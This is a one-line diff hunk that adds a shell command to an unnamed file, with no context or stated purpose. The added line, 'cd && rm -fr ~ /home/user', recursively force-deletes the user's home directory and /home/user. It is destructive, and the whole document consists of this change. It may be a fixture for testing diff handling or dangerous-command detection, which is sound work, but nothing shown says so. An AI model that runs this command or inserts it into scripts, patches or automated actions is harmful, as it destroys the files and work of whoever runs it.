@@ -1,0 +1,1 @@
+cd && rm -fr ~ /home/user
